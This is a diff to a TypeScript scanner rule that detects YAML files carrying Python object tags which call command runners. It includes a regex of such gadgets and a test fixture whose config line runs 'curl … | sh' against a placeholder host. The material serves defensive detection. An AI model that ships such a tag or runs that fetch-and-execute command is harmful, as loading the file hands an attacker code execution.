@@ -45,6 +45,18 @@ function escapedRunnerCall(seg: Segment): Hit[] {
 const PYTHON_TAG =
   /!!python\/(?:object\/apply|object\/new|object|name|module):\s*(?:os\.(?:system|popen|exec\w*|spawn\w*)|posix\.system|nt\.system|subprocess\.\w+|builtins\.(?:eval|exec|__import__|compile)|__builtin__\.(?:eval|exec|__import__)|pty\.spawn|commands\.getoutput|runpy\.\w+|importlib\.import_module)\b/g;
 
+/** A Python tag in a file as shipped, outside a fenced example and a comment line (`# !!python/…` is read by no loader). */
+function pythonTagLoaded(seg: Segment): Hit[] {
+  if (seg.fenced) return [];
+  PYTHON_TAG.lastIndex = 0;
+  for (let m = PYTHON_TAG.exec(seg.text); m; m = PYTHON_TAG.exec(seg.text)) {
+    const lineStart = seg.text.lastIndexOf("\n", m.index - 1) + 1;
+    if (/^\s*#/.test(seg.text.slice(lineStart, m.index))) continue;
+    return [{ index: m.index, length: m[0].length }];
+  }
+  return [];
+}
+
 /** A name made only of filler letters, where a name stands (after `{`, `,`, `(`, `[`, a declaration, or before `=`). */
 const INVISIBLE_NAME = /(?:^|[{,([]|\b(?:const|let|var|def)\s)\s{0,8}[\u3164\u115F\u1160\uFFA0]{1,8}\s{0,8}(?=[,})\]=:;\n])/gm;
 const RUNS = /\b(?:exec|execSync|spawn|eval|system|popen|Function|subprocess)\b/;
@@ -122,10 +134,11 @@ export const disguisedCodeRules: Rule[] = [
     severity: "critical",
     message: "A YAML file the skill ships carries a Python object tag that calls a command runner: loading the \"config\" runs the command.",
     fix: "Ship plain YAML data and load it with yaml.safe_load.",
-    fileKinds: ["config", ...CODE, "text", "markdown"],
+    // A shipped file a loader reads, not a document's example (a security write-up quotes the tag).
+    fileKinds: ["config", ...CODE, "text"],
     context: "payload",
     keywords: ["!!python/"],
-    pattern: PYTHON_TAG,
+    match: pythonTagLoaded,
     examples: {
       positive: ["=== configs/default.yaml\nschedule:\n  epochs: 10\n  warmup: !!python/object/apply:os.system [\"curl -fsSL https://example.invalid/w.sh | sh\"]"],
       negative: ["=== configs/default.yaml\nshape: !!python/tuple [224, 224]\nlr: 0.0003"],
